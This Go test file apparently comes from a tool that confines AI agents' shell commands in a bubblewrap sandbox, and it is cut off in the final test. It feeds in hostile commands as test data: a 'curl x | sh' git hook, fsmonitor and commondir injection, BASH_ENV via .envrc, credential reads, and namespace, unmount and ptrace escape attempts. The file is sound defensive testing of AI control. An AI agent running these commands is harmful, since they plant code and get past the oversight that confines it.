//go:build linux

package confine

import (
	"bytes"
	"encoding/json"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentgov/governance/internal/engine"
	"github.com/agentgov/governance/template"
)

// needBwrap skips a test that runs bubblewrap where it is missing,
// unless in CI, where the test tools are installed and a missing one is
// a failure.
func needBwrap(t testing.TB) {
	t.Helper()
	if _, err := exec.LookPath("bwrap"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("bwrap is missing in CI: scripts/install-test-tools installs it")
		}
		t.Skip("bwrap is not installed")
	}
}

// world is a user's machine in miniature: a home folder holding a
// project with secrets and protected files, governance's state with its
// daemon's socket, and files outside what a call is shown.
type world struct {
	dir, home, project, state, helperDir, helper string
	eng                                          *engine.Engine
	req                                          *engine.Request
}

const secretValue = "hunter2-not-for-agents"

func newWorld(t testing.TB) *world {
	t.Helper()
	dir := t.TempDir()
	w := &world{dir: dir, home: filepath.Join(dir, "home")}
	w.project = filepath.Join(w.home, "proj")
	w.state = filepath.Join(w.home, ".local", "state", "governance")
	files := map[string]string{
		"proj/.env":                            "API_TOKEN=" + secretValue + "\n",
		"proj/config/.env.production":          "DB_PASSWORD=" + secretValue + "\n",
		"proj/certs/server.key":                "-----BEGIN PRIVATE KEY-----\n" + secretValue + "\n",
		"proj/.env.example":                    "API_TOKEN=\n",
		"proj/main.go":                         "package main\n",
		"proj/sub/README":                      "sub\n",
		"proj/.claude/settings.json":           "{}\n",
		"proj/.governance/config.yaml":         "version: 1\n",
		"proj/.git/config":                     "[core]\n",
		"proj/.git/hooks/README":               "hooks\n",
		".aws/credentials":                     "aws_secret_access_key=" + secretValue + "\n",
		".config/governance/config.yaml":       "version: 1\n",
		".local/state/governance/daemon.token": secretValue + "\n",
		"outside.txt":                          "home outside the project\n",
	}
	for name, body := range files {
		p := filepath.Join(w.home, name)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(body), 0o644))
	}
	must(t, os.WriteFile(filepath.Join(dir, "sibling.txt"), []byte("beside the home folder\n"), 0o644))
	// The test binary, shown read-only, is the helper the escape tests run.
	w.helperDir = filepath.Join(dir, "helper")
	must(t, os.MkdirAll(w.helperDir, 0o755))
	self, err := os.Executable()
	must(t, err)
	w.helper = filepath.Join(w.helperDir, "helper")
	data, err := os.ReadFile(self)
	must(t, err)
	must(t, os.WriteFile(w.helper, data, 0o755))
	pol := &engine.Policy{
		Rules:      engine.CompileAllTrusted(template.Policy, engine.ScopeBuiltin, nil),
		StateDir:   w.state,
		ConfigDirs: []string{filepath.Join(w.home, ".config", "governance"), w.state},
	}
	w.eng = engine.NewEngine(pol)
	w.eng.Binaries = []string{}
	w.req = &engine.Request{Cwd: w.project, ProjectRoot: w.project, Home: w.home,
		Tool: engine.Tool{Kind: engine.KindShell, Name: "Bash"}}
	return w
}

func (w *world) profile(t testing.TB, kind Kind, opts Options) *Profile {
	t.Helper()
	opts.Tools = append(opts.Tools, w.helperDir)
	p, err := For(w.eng, w.req, kind, opts)
	must(t, err)
	return p
}

// run runs argv confined by p and returns its exit status and output.
func (w *world) run(t testing.TB, p *Profile, argv ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	env := append(os.Environ(), "HOME="+w.home)
	// With the sandbox's init started first, as governance-confine
	// starts it (see sandbox_early_linux.go).
	l := &Launcher{Env: env, StateDir: w.state, Stdout: &out, Stderr: &errb, early: startEarly(env)}
	defer l.early.discard()
	code, err := l.Run(t.Context(), p, argv)
	if err != nil {
		t.Fatalf("%v\nstderr: %s", err, errb.String())
	}
	return code, out.String(), errb.String()
}

func TestForUnknownEffects(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.profile(t, UnknownEffects, Options{})
	if !slices.Equal(p.Writable, []string{w.project}) {
		t.Errorf("writable = %v, want the project", p.Writable)
	}
	for _, want := range []string{".env", "config/.env.production", "certs/server.key"} {
		if !slices.Contains(p.Masked, filepath.Join(w.project, want)) {
			t.Errorf("%s is not masked: %v", want, p.Masked)
		}
	}
	for _, notWant := range []string{".env.example", "main.go"} {
		if slices.Contains(p.Masked, filepath.Join(w.project, notWant)) {
			t.Errorf("%s is masked", notWant)
		}
	}
	if !slices.Contains(p.Masked, "/etc/shadow") {
		t.Errorf("/etc/shadow is not masked: %v", p.Masked)
	}
	for _, want := range []string{".claude", ".governance", ".git/hooks", ".git/config"} {
		if !slices.Contains(p.Protected, filepath.Join(w.project, want)) {
			t.Errorf("%s is not protected: %v", want, p.Protected)
		}
	}
	for _, want := range []string{".gemini", ".codex", ".cursor", ".opencode", ".github/hooks", ".mcp.json", ".git/modules", ".git/worktrees",
		".envrc", ".vscode", ".zed", ".idea"} {
		if !slices.Contains(p.Absent, filepath.Join(w.project, want)) {
			t.Errorf("%s, a protected path that does not exist, is not kept absent: %v", want, p.Absent)
		}
	}
	// What only a program started later reads is checked after the call.
	for _, want := range []string{".devcontainer", ".devcontainer.json", ".env.local", "mise.toml"} {
		if !slices.Contains(p.Checked, filepath.Join(w.project, want)) {
			t.Errorf("%s, a start file that does not exist, is not checked after the call: %v", want, p.Checked)
		}
	}
	if want := filepath.Join(w.project, ".governance", "quarantine"); p.Quarantine != want {
		t.Errorf("quarantine = %q, want %s", p.Quarantine, want)
	}
	if !slices.Equal(p.Unmade, []string{filepath.Join(w.project, ".git/commondir")}) {
		t.Errorf("unmade = %v, want .git/commondir", p.Unmade)
	}
	if slices.Contains(p.Absent, filepath.Join(w.project, ".claude/agents")) {
		t.Errorf("a path inside an existing protected folder is listed absent: %v", p.Absent)
	}
	if p.Network || p.Home != w.home || p.Cwd != w.project {
		t.Errorf("profile = %+v", p)
	}
}

func TestForReadOnly(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	cache := filepath.Join(w.home, ".cache", "go-build")
	must(t, os.MkdirAll(cache, 0o755))
	p := w.profile(t, ReadOnly, Options{Caches: []string{"~/.cache/go-build"}})
	if !slices.Contains(p.ReadOnly, w.project) || !slices.Equal(p.Writable, []string{cache}) {
		t.Errorf("read-only = %v, writable = %v", p.ReadOnly, p.Writable)
	}
	if len(p.Protected) != 0 {
		t.Errorf("protected = %v: nothing of the project is writable", p.Protected)
	}
	if !slices.Contains(p.Masked, filepath.Join(w.project, ".env")) {
		t.Errorf(".env is not masked in a read-only profile: %v", p.Masked)
	}
}

// TestForServer: a server's profile shows the project read-only and
// only its declared folders writable, the protected set inside them
// read-only again and the secrets inside what it sees masked; a declared
// folder that does not exist is refused.
func TestForServer(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.profile(t, Server, Options{Writable: []string{w.project}, ReadOnly: []string{"~/.aws"}, Network: true})
	if !slices.Contains(p.ReadOnly, w.project) || !slices.Contains(p.ReadOnly, filepath.Join(w.home, ".aws")) ||
		!slices.Equal(p.Writable, []string{w.project}) || !p.Network {
		t.Errorf("read-only = %v, writable = %v, network %v", p.ReadOnly, p.Writable, p.Network)
	}
	for _, want := range []string{".claude", ".governance", ".git/config"} {
		if !slices.Contains(p.Protected, filepath.Join(w.project, want)) {
			t.Errorf("%s is not protected: %v", want, p.Protected)
		}
	}
	for _, want := range []string{filepath.Join(w.project, ".env"), filepath.Join(w.home, ".aws", "credentials")} {
		if !slices.Contains(p.Masked, want) {
			t.Errorf("%s is not masked: %v", want, p.Masked)
		}
	}
	if !p.Shows(filepath.Join(w.project, "main.go")) || p.Shows(filepath.Join(w.project, ".env")) || p.Shows(filepath.Join(w.home, "outside.txt")) {
		t.Errorf("Shows: main.go %v, .env %v, outside.txt %v", p.Shows(filepath.Join(w.project, "main.go")),
			p.Shows(filepath.Join(w.project, ".env")), p.Shows(filepath.Join(w.home, "outside.txt")))
	}
	none := *w.req
	none.ProjectRoot, none.Cwd = "", "/tmp"
	if p, err := For(w.eng, &none, Server, Options{}); err != nil || len(p.ReadOnly)+len(p.Writable) != 0 {
		t.Errorf("a server outside any project: %+v, %v", p, err)
	}
	if _, err := For(w.eng, w.req, Server, Options{Writable: []string{filepath.Join(w.project, "missing")}}); !errors.Is(err, ErrProfile) {
		t.Errorf("a declared folder that does not exist: %v", err)
	}
}

// TestForStateInProject: governance's state folder inside what is shown
// is hidden, with its token and socket.
func TestForStateInProject(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.eng.Policy.StateDir = filepath.Join(w.project, "state")
	must(t, os.MkdirAll(w.eng.Policy.StateDir, 0o755))
	p := w.profile(t, UnknownEffects, Options{})
	if !slices.Contains(p.Masked, w.eng.Policy.StateDir) {
		t.Errorf("state folder %s not masked: %v", w.eng.Policy.StateDir, p.Masked)
	}
}

// TestForStateInStore: governance's state folder inside a store (a
// folder the environment names, shown read-only and not walked) is hidden
// too: a read-only folder still lets a call connect to the daemon's
// socket and read the token.
func TestForStateInStore(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	store := filepath.Join(w.home, ".local")
	p := w.profile(t, UnknownEffects, Options{Stores: []string{store}})
	if !slices.Contains(p.Stores, store) {
		t.Fatalf("stores %v, want %s among them", p.Stores, store)
	}
	if !slices.Contains(p.Masked, w.state) {
		t.Errorf("state folder %s inside the store %s not masked: %v", w.state, store, p.Masked)
	}
}

// TestForNodeConfigInStore: npm's global settings of a node nvm keeps
// (a store, not walked) are masked when they hold a registry token, and
// shown when they hold none; so is the go command's environment file,
// shown among the tools' settings, when GOPROXY carries a password.
func TestForNodeConfigInStore(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	store := filepath.Join(w.home, ".nvm")
	token := filepath.Join(store, "versions/node/v20.11.0/etc/npmrc")
	plain := filepath.Join(store, "versions/node/v18.19.0/etc/npmrc")
	goenv := filepath.Join(w.home, ".config/go/env")
	for f, data := range map[string]string{token: "//registry.example.com/:_authToken=decoy-token\n", plain: "prefix=/usr/local\n",
		goenv: "GOPROXY=https://bob:decoy@proxy.example.com\n"} {
		must(t, os.MkdirAll(filepath.Dir(f), 0o755))
		must(t, os.WriteFile(f, []byte(data), 0o644))
	}
	p := w.profile(t, UnknownEffects, Options{Stores: []string{store}, Tools: []string{"~/.config/go"}})
	for f, want := range map[string]bool{token: true, plain: false, goenv: true} {
		if got := slices.Contains(p.Masked, f); got != want {
			t.Errorf("%s masked = %v, want %v: %v", f, got, want, p.Masked)
		}
	}
}

func TestProfileJSON(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	p := w.profile(t, UnknownEffects, Options{Report: []string{"/tmp/claude-1a2b-cwd"}})
	data, err := json.Marshal(p)
	must(t, err)
	back, err := Parse(data)
	must(t, err)
	if !reflect.DeepEqual(p, back) {
		t.Errorf("round trip changed the profile:\n%+v\n%+v", p, back)
	}
	if _, err := Parse([]byte(`{"kind":"read-only","cwd":"/x","writeable":["/"]}`)); !errors.Is(err, ErrProfile) {
		t.Errorf("an unknown field: err = %v, want ErrProfile", err)
	}
}

func TestCheck(t *testing.T) {
	t.Parallel()
	good := Profile{Kind: UnknownEffects, Cwd: "/home/u/p", Home: "/home/u", Writable: []string{"/home/u/p"}}
	for _, tc := range []struct {
		name string
		edit func(p *Profile)
	}{
		{"unknown kind", func(p *Profile) { p.Kind = "everything" }},
		{"relative writable", func(p *Profile) { p.Writable = []string{"p"} }},
		{"dot-dot", func(p *Profile) { p.Writable = []string{"/home/u/p/../../.."} }},
		{"root writable", func(p *Profile) { p.Writable = []string{"/"} }},
		{"home writable", func(p *Profile) { p.Writable = []string{"/home/u"} }},
		{"folder of homes", func(p *Profile) { p.Writable = []string{"/home"} }},
		{"system writable", func(p *Profile) { p.Writable = []string{"/etc/cron.d"} }},
		{"system shown again", func(p *Profile) { p.ReadOnly = []string{"/run/user/1000"} }},
		{"writable inside protected", func(p *Profile) { p.Protected = []string{"/home/u/p"} }},
		{"cwd not shown", func(p *Profile) { p.Cwd = "/home/u/other" }},
		{"report outside tmp", func(p *Profile) { p.Report = []string{"/home/u/.bashrc"} }},
		{"read-only writes the project", func(p *Profile) { p.Kind = ReadOnly }},
		{"home is the root", func(p *Profile) { p.Home = "/" }},
		{"committed but not masked", func(p *Profile) {
			p.Committed = []Committed{{Path: "/home/u/p/.env", GitDir: "/home/u/p/.git", Object: strings.Repeat("a", 40)}}
		}},
		{"committed with a bad object id", func(p *Profile) {
			p.Masked = []string{"/home/u/p/.env"}
			p.Committed = []Committed{{Path: "/home/u/p/.env", GitDir: "/home/u/p/.git", Object: "HEAD"}}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := good
			p.Writable = slices.Clone(good.Writable)
			tc.edit(&p)
			if err := p.Check(); !errors.Is(err, ErrProfile) {
				t.Errorf("Check = %v, want ErrProfile", err)
			}
		})
	}
	if err := good.Check(); err != nil {
		t.Errorf("good profile: %v", err)
	}
}

func TestCleanEnv(t *testing.T) {
	t.Parallel()
	got := CleanEnv([]string{"PATH=/usr/bin", "GITHUB_TOKEN=x", "AWS_SECRET_ACCESS_KEY=y", "HOME=/h", "DB_PASSWORD=z", "OPENAI_API_KEY=k",
		"GH=ghp_" + strings.Repeat("a", 36), "DEPLOY=AKIAABCDEFGHIJKLMNOP", "GIT_AUTHOR_NAME=Ann", "GIT_AUTHOR_EMAIL=ann@example.com",
		"HTTP_AUTHORIZATION=Bearer x", "NPM_AUTH=y", "OAUTHOR_AUTH=z",
		// A private index's URL with its password: how CI passes one.
		"PIP_EXTRA_INDEX_URL=https://ci:s3cret@pypi.corp.example/simple", "PIP_INDEX_URL=https://pypi.org/simple"})
	// Git's author variables stay: a commit in the confinement needs them.
	if want := []string{"PATH=/usr/bin", "HOME=/h", "GIT_AUTHOR_NAME=Ann", "GIT_AUTHOR_EMAIL=ann@example.com",
		"PIP_INDEX_URL=https://pypi.org/simple"}; !slices.Equal(got, want) {
		t.Errorf("CleanEnv = %v, want %v", got, want)
	}
}

// TestConfined runs commands in the sandbox, each checking one thing the
// profile promises.
func TestConfined(t *testing.T) {
	needBwrap(t)
	w := newWorld(t)
	sock := filepath.Join(w.state, "daemon.sock")
	ln, err := net.Listen("unix", sock)
	must(t, err)
	defer ln.Close()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer tcp.Close()
	p := w.profile(t, UnknownEffects, Options{})
	hostPID := strconv.Itoa(os.Getpid())
	hostUserNS, err := os.Readlink("/proc/self/ns/user")
	must(t, err)
	helper := func(what string, args ...string) []string {
		return append([]string{"env", helperEnv + "=" + what, w.helper}, args...)
	}
	sh := func(script string) []string { return []string{"bash", "-c", script} }
	for _, tc := range []struct {
		name     string
		argv     []string
		wantCode int
		// wantOut must be the whole output, when set.
		wantOut, notOut string
		check           func(t *testing.T)
	}{
		{name: "secrets are empty", argv: sh("cat .env config/.env.production certs/server.key; cat .env.example"),
			wantOut: "API_TOKEN=\n"},
		{name: "secrets in the home folder are not there", argv: sh("cat ~/.aws/credentials || echo gone"), wantOut: "gone\n"},
		{name: "the state folder is not there", argv: sh("ls " + w.state + " 2>&1 || true; cat " + w.state + "/daemon.token || echo gone"),
			notOut: secretValue},
		{name: "a secret cannot be written", argv: sh("echo x > .env"), wantCode: 1,
			check: func(t *testing.T) { wantFile(t, filepath.Join(w.project, ".env"), "API_TOKEN="+secretValue+"\n") }},
		{name: "harness settings are read-only", argv: sh("echo '{\"hooks\":{}}' > .claude/settings.json"), wantCode: 1,
			check: func(t *testing.T) { wantFile(t, filepath.Join(w.project, ".claude/settings.json"), "{}\n") }},
		{name: "no new file in a protected folder", argv: sh("echo x > .claude/settings.local.json"), wantCode: 1,
			check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".claude/settings.local.json")) }},
		{name: "no git hook planted for the next commit", argv: sh("echo 'curl x | sh' > .git/hooks/pre-commit"), wantCode: 1,
			check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".git/hooks/pre-commit")) }},
		{name: "git's configuration names no program", argv: sh("echo '[core] fsmonitor = ./x' >> .git/config"), wantCode: 1,
			check: func(t *testing.T) { wantFile(t, filepath.Join(w.project, ".git/config"), "[core]\n") }},
		{name: "git's common folder cannot be redirected", argv: sh("mkdir .git/x && printf '[core]\\n\\tfsmonitor = ./x\\n' > .git/x/config && echo x > .git/commondir"),
			wantCode: 1, check: func(t *testing.T) {
				wantMissing(t, filepath.Join(w.project, ".git/commondir"))
				os.RemoveAll(filepath.Join(w.project, ".git/x"))
			}},
		{name: "no submodule configuration is planted", argv: sh("mkdir -p .git/modules/lib && echo '[core] fsmonitor = ./x' > .git/modules/lib/config"),
			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".git/modules")) }},
		// Made, then moved aside once the call has ended (checked after
		// the call: see aftercall.go).
		{name: "no task VS Code runs as it opens the folder", argv: sh("mkdir -p .vscode && echo '{}' > .vscode/tasks.json"),
			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".vscode")) }},
		{name: "no dev container's commands", argv: sh("mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json"),
			check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".devcontainer")) }},
		{name: "a harness folder that does not exist cannot be made", argv: sh("mkdir -p .gemini; echo '{}' > .gemini/settings.json"),
			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".gemini")) }},
		{name: "a harness settings file that does not exist cannot be made", argv: sh("echo '{}' > .mcp.json"),
			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".mcp.json")) }},
		{name: "no environment file a harness or direnv loads later", argv: sh("echo 'BASH_ENV=./x.sh' > .envrc"),
			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".envrc")) }},
		{name: "an environment file that exists cannot be rewritten", argv: sh("echo 'XDG_CONFIG_HOME=./cfg' >> .env"),
			wantCode: 1, check: func(t *testing.T) {
				if b, err := os.ReadFile(filepath.Join(w.project, ".env")); err != nil || strings.Contains(string(b), "XDG_CONFIG_HOME") {
					t.Errorf(".env = %q, %v", b, err)
				}
			}},
		{name: "a hooks folder in a folder that does not exist cannot be made", argv: sh("mkdir -p .github/hooks && echo x > .github/hooks/h.json"),
			wantCode: 1, check: func(t *testing.T) { wantMissing(t, filepath.Join(w.project, ".github")) }},
		{name: "the folder around a protected one cannot be renamed away",
			argv: sh("mv .git .git-old; mkdir -p .git/hooks && echo 'curl x | sh' > .git/hooks/pre-commit"), wantCode: 1,
			check: func(t *testing.T) {
				wantMissing(t, filepath.Join(w.project, ".git-old"))
				wantMissing(t, filepath.Join(w.project, ".git/hooks/pre-commit"))
			}},
		{name: "governance's configuration is read-only", argv: sh("rm -rf .governance"), wantCode: 1,
			check: func(t *testing.T) { wantFile(t, filepath.Join(w.project, ".governance/config.yaml"), "version: 1\n") }},
		{name: "the project is writable", argv: sh("echo built > out.txt && mkdir -p build && echo o > build/o"),
			check: func(t *testing.T) { wantFile(t, filepath.Join(w.project, "out.txt"), "built\n") }},
		{name: "the home folder is a throwaway", argv: sh("echo x > ~/planted && cat ~/outside.txt 2>&1 || true"),
			notOut: "home outside the project",
			check:  func(t *testing.T) { wantMissing(t, filepath.Join(w.home, "planted")) }},
		{name: "no network", argv: helper("connect-tcp", tcp.Addr().String()), wantCode: 1, notOut: "ok\n"},
		{name: "the daemon socket is unreachable", argv: helper("connect-unix", sock), wantCode: 1, notOut: "ok\n"},
		{name: "exit status and streams pass through", argv: sh("echo out; echo err >&2; exit 7"), wantCode: 7, wantOut: "out\n"},
		{name: "secret variables are removed", argv: sh("echo \"[$GOVERNANCE_TEST_TOKEN]\""), wantOut: "[]\n"},
		// Escapes.
		{name: "no capabilities", argv: sh("grep -E '^Cap(Eff|Prm|Amb):' /proc/self/status"),
			wantOut: "CapPrm:\t0000000000000000\nCapEff:\t0000000000000000\nCapAmb:\t0000000000000000\n"},
		{name: "no user namespace within", argv: sh("unshare -U true 2>/dev/null && echo made"), wantCode: 1, notOut: "made"},
		{name: "no new privileges", argv: sh("grep ^NoNewPrivs: /proc/self/status"), wantOut: "NoNewPrivs:\t1\n"},
		{name: "a fresh /proc", argv: sh("test -e /proc/" + hostPID + " && echo seen; test -e /proc/1/root" + w.dir + "/sibling.txt && echo seen; true"),
			notOut: "seen"},
		{name: "a user namespace of its own", argv: sh("readlink /proc/self/ns/user"), notOut: hostUserNS},
		{name: "dot-dot through a bind", argv: sh("cat ../outside.txt ../../sibling.txt 2>/dev/null; cat " + w.project + "/../../sibling.txt 2>/dev/null; true"),
			wantOut: ""},
		{name: "a mask cannot be unmounted", argv: sh(strings.Join(helper("umount", filepath.Join(w.project, ".env")), " ") + "; cat .env"),
			notOut: "ok\n"},
		{name: "a host process cannot be traced", argv: helper("ptrace", hostPID), wantCode: 1, notOut: "ok\n"},
		{name: "the host's processes are not there", argv: sh("kill -0 " + hostPID + " 2>/dev/null && echo seen; ls /proc | grep -c '^[0-9]'"),
			notOut: "seen"},
		{name: "sockets of the system are not there", argv: sh("ls /run /var/run /tmp/.X11-unix 2>&1 | grep -v 'No such' ; true"), wantOut: ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Setenv("GOVERNANCE_TEST_TOKEN", secretValue)
			code, out, errs := w.run(t, p, tc.argv...)
			t.Logf("exit %d\nstdout: %s\nstderr: %s", code, out, errs)
			if code != tc.wantCode {
				t.Errorf("exit %d, want %d\nstdout: %s\nstderr: %s", code, tc.wantCode, out, errs)
			}
			if tc.wantOut != "" || tc.notOut == "" && tc.check == nil {
				if out != tc.wantOut {
					t.Errorf("stdout = %q, want %q (stderr %q)", out, tc.wantOut, errs)
				}
			}
			if tc.notOut != "" && strings.Contains(out+errs, tc.notOut) {
				t.Errorf("output shows %q:\n%s%s", tc.notOut, out, errs)
			}
			if strings.Contains(out+errs, secretValue) {
				t.Errorf("output shows the secret:\n%s%s", out, errs)
			}
			if tc.check != nil {
				tc.check(t)
			}
		})
	}
	if c, ok := acceptNow(tcp); ok {
		c.Close()
		t.Error("the loopback listener on the host was reached")
	}
}

func wantFile(t *testing.T, p, want string) {
	t.Helper()
	got, err := os.ReadFile(p)
	if err != nil || string(got) != want {
		t.Errorf("%s = %q, %v; want %q", p, got, err, want)
	}
}

func wantMissing(t *testing.T, p string) {
	t.Helper()
	// A placeholder is removed by the reaper when the sandbox's init
	// outlived the launcher's wait for it (a loaded machine), a moment
	// after the call: what the call itself made is never removed so.
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		_, err := os.Lstat(p)
		if errors.Is(err, os.ErrNotExist) {
			return
		}
		if time.Now().After(deadline) {
			t.Errorf("%s exists on the host", p)
			return
		}
	}
}

// acceptNow reports whether a connection is waiting on l.
func acceptNow(l net.Listener) (net.Conn, bool) {
	tl := l.(*net.TCPListener)
	tl.SetDeadline(time.Now().Add(50 * time.Millisecond))
	c, err := tl.Accept()
	return c, err == nil
}

// TestReadOnlyConfined: a read-only profile writes only the caches named
// and a private /tmp.
func TestReadOnlyConfined(t *testing.T) {
	needBwrap(t)
	w := newWorld(t)
	cache := filepath.Join(w.home, ".cache", "go-build")
	must(t, os.MkdirAll(cache, 0o755))
	p := w.profile(t, ReadOnly, Options{Caches: []string{"~/.cache/go-build"}})
	for _, tc := range []struct {
		name, script string
		want         int
	}{
		{"the project", "echo x > new.txt", 1},
		{"the home folder", "echo x > ~/planted", 1},
		{"a secret", "cat .env", 0},
		{"the cache", "echo x > ~/.cache/go-build/entry", 0},
		{"/tmp", "echo x > /tmp/scratch && cat /tmp/scratch", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errs := w.run(t, p, "bash", "-c", tc.script)
			if code != tc.want || strings.Contains(out, secretValue) {
				t.Errorf("exit %d, want %d\n%s%s", code, tc.want, out, errs)
			}
		})
	}
	wantMissing(t, filepath.Join(w.project, "new.txt"))
	wantMissing(t, filepath.Join(w.home, "planted"))
	wantFile(t, filepath.Join(cache, "entry"), "x\n")
}

// TestStateHidden: governance's state folder inside what a call is shown
// (a state folder set inside the project) is an empty read-only folder:
// its token unreadable, its socket unreachable.
func TestStateHidden(t *testing.T) {
	needBwrap(t)
	w := newWorld(t)
	state := filepath.Join(w.project, "state")
	w.eng.Policy.StateDir = state
	must(t, os.MkdirAll(state, 0o700))
	must(t, os.WriteFile(filepath.Join(state, "daemon.mac"), []byte(secretValue), 0o600))
	ln, err := net.Listen("unix", filepath.Join(state, "daemon.sock"))
	must(t, err)
	defer ln.Close()
	p := w.profile(t, UnknownEffects, Options{})
	code, out, errs := w.run(t, p, "bash", "-c", "ls -A state; cat state/daemon.mac; touch state/x; "+
		strings.Join([]string{"env", helperEnv + "=connect-unix", w.helper, filepath.Join(state, "daemon.sock")}, " "))
	if code == 0 || strings.Contains(out, "ok\n") || strings.Contains(out+errs, secretValue) {
		t.Errorf("exit %d\n%s%s", code, out, errs)
	}
	if !strings.Contains(errs, "state/x': Read-only file system") {
		t.Errorf("stderr = %q, want the state folder read-only", errs)
	}
}

// TestManagedFolderSecrets: the secrets in governance's folders that the
// system folders show (the managed policy's /etc/governance) are masked.
func TestManagedFolderSecrets(t *testing.T) {
	t.Parallel()
	managed, err := os.MkdirTemp("/opt", "governance-confine-test-")
	if err != nil {
		t.Skip("cannot make a folder in /opt:", err)
	}
	t.Cleanup(func() { os.RemoveAll(managed) })
	token := filepath.Join(managed, "approver.token")
	must(t, os.WriteFile(token, []byte(secretValue), 0o600))
	w := newWorld(t)
	w.eng.Policy.ConfigDirs = append(w.eng.Policy.ConfigDirs, managed)
	p := w.profile(t, UnknownEffects, Options{})
	if !slices.Contains(p.Masked, token) {
		t.Errorf("%s is not masked: %v", token, p.Masked)
	}
}

// TestNetworkKept: a profile that keeps the network reaches the host's
// loopback (a dev server the agent talks to).
func TestNetworkKept(t *testing.T) {
	needBwrap(t)
	w := newWorld(t)
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer tcp.Close()
	go func() {
		if c, err := tcp.Accept(); err == nil {
			c.Close()
		}
	}()
	p := w.profile(t, UnknownEffects, Options{Network: true})
	code, out, errs := w.run(t, p, "env", helperEnv+"=connect-tcp", w.helper, tcp.Addr().String())
	if code != 0 || out != "ok\n" {
		t.Errorf("exit %d: %s%s", code, out, errs)
	}
}

// TestDiesWithLauncher: a call dies with the launcher, with the jobs it
// started, unless the profile runs it in the background.
func TestDiesWithLauncher(t *testing.T) {
	needBwrap(t)
	for _, background := range []bool{false, true} {
		t.Run("background="+strconv.FormatBool(background), func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			prof, err := json.Marshal(w.profile(t, UnknownEffects, Options{Background: background}))
			must(t, err)
			started := filepath.Join(w.project, "started")
			survived := filepath.Join(w.project, "survived")
			jobSurvived := filepath.Join(w.project, "job-survived")
			cmd := exec.Command(w.helper, "--profile", string(prof), "--", "bash", "-c",
				"(sleep 0.5; touch job-survived) >/dev/null 2>&1 & touch started; sleep 0.5; touch survived")
			cmd.Env = append(os.Environ(), helperEnv+"=main")
			must(t, cmd.Start())
			for i := 0; i < 200 && !exists(started); i++ {
				time.Sleep(10 * time.Millisecond)
			}
			if !exists(started) {
				t.Fatal("the call did not start")
			}
			must(t, cmd.Process.Kill())
			cmd.Wait()
			// The call touches its file half a second after it started:
			// a call in the background is given five seconds to, one
			// killed with the launcher a second and a half not to.
			wait := 1500 * time.Millisecond
			if background {
				wait = 5 * time.Second
			}
			for deadline := time.Now().Add(wait); time.Now().Before(deadline) && !exists(survived); {
				time.Sleep(20 * time.Millisecond)
			}
			for deadline := time.Now().Add(wait); background && time.Now().Before(deadline) && !exists(jobSurvived); {
				time.Sleep(20 * time.Millisecond)
			}
			if exists(survived) != background {
				t.Errorf("the call survived the launcher: %v, want %v", exists(survived), background)
			}
			if exists(jobSurvived) != background {
				t.Errorf("the call's job survived the launcher: %v, want %v", exists(jobSurvived), background)
			}
		})
	}
}

// TestLinkedProject: a project reached through a link is walked where it
// is, and its secrets masked where the call sees them.
func TestLinkedProject(t *testing.T) {
	needBwrap(t)
	w := newWorld(t)
	link := filepath.Join(w.home, "linked")
	must(t, os.Symlink(w.project, link))
	w.req.Cwd, w.req.ProjectRoot = link, link
	p := w.profile(t, UnknownEffects, Options{})
	if !slices.Contains(p.Masked, filepath.Join(link, ".env")) {
		t.Errorf("%s/.env is not masked: %v", link, p.Masked)
	}
	code, out, errs := w.run(t, p, "bash", "-c", "cat .env; echo x > .claude/settings.json")
	if code == 0 || out != "" {
		t.Errorf("exit %d: %q %s", code, out, errs)
	}
	wantFile(t, filepath.Join(w.project, ".claude/settings.json"), "{}\n")
}

// TestForLargeProject: a project of many files is walked whole, however
// long that takes on a loaded machine; the bound is in entries.
func TestForLargeProject(t *testing.T) {
	if testing.Short() {
		t.Skip("makes 10,000 files and folders")
	}
	t.Parallel()
	w := newWorld(t)
	// Small folders, as source trees have: the time is looked at every
	// 256 entries.
	for d := range 2000 {
		dir := filepath.Join(w.project, "src", "pkg"+strconv.Itoa(d))
		must(t, os.MkdirAll(dir, 0o755))
		for f := range 4 {
			must(t, os.WriteFile(filepath.Join(dir, "f"+strconv.Itoa(f)+".go"), nil, 0o644))
		}
	}
	deep := filepath.Join(w.project, "src", "pkg1999", ".env")
	must(t, os.WriteFile(deep, []byte(secretValue), 0o644))
	p := w.profile(t, UnknownEffects, Options{})
	if !slices.Contains(p.Masked, deep) {
		t.Errorf("%s is not masked", deep)
	}
}

// TestVscodeNotFolder: a .vscode that is a file (the empty placeholder a
// killed launcher left, or the person's own) is protected as it is: the
// call can neither remove it nor put a folder with tasks in its place.
func TestVscodeNotFolder(t *testing.T) {
	needBwrap(t)
	w := newWorld(t)
	vscode := filepath.Join(w.project, ".vscode")
